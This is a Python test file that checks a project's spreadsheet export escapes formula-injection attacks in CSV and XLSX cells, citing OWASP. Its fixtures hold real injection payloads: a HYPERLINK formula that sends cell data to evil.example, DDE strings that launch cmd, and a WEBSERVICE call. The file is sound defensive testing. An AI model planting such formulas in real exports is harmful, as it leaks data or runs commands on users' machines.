"""Issue #18 item 8: formula injection neutralised in the published CSV / XLSX (OWASP CSV injection).

OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with
=, +, -, @, tab (0x09) or carriage return (0x0D) are interpreted as formulas; prefix them with
a single quote. Numbers (and text that is only a decimal number) are left as they are.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest

from core.spreadsheet import safe_cell
from publish.formats import csv_bytes, xlsx_bytes

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('=WEBSERVICE("http://x")', '\'=WEBSERVICE("http://x")'),
        # the other side: harmless text and numbers as text are unchanged
        ("东四 Dongsi", "东四 Dongsi"),
        ("a=b", "a=b"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        ("", ""),
    ],
)
def test_safe_cell(text: str, expected: str) -> None:
    assert safe_cell(text) == expected


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3.5) == -3.5 and safe_cell(-7) == -7 and safe_cell(None) is None


def test_csv_cells_are_inert() -> None:
    data = csv_bytes(
        ["name_zh", "pm25_24h_ugm3"], [[ATTACK, -3.5], ["@evil", 12], ["dongsi", None]]
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + ATTACK, "-3.5"]
    assert rows[2] == ["'@evil", "12"]
    assert rows[3] == ["dongsi", ""]


def test_xlsx_formula_text_comes_out_as_text() -> None:
    stamp = datetime(2026, 11, 30, 15, 59, 59, tzinfo=UTC)
    data = xlsx_bytes(
        [("t1", "=1+1 title", ["name_zh", "pm25_24h_ugm3"], [[ATTACK, -3.5], ["+1+1", 4]])], stamp
    )
    ws = openpyxl.load_workbook(io.BytesIO(data))["t1"]
    title = ws["A1"]
    assert (title.value, title.data_type) == ("'=1+1 title", "s")
    attack, number = ws["A3"], ws["B3"]
    assert attack.data_type == "s" and attack.value == "'" + ATTACK
    assert number.data_type == "n" and number.value == -3.5  # a negative number is a number
    plus = ws["A4"]
    assert plus.data_type == "s" and plus.value == "'+1+1"
    # nothing anywhere in the workbook is a formula
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
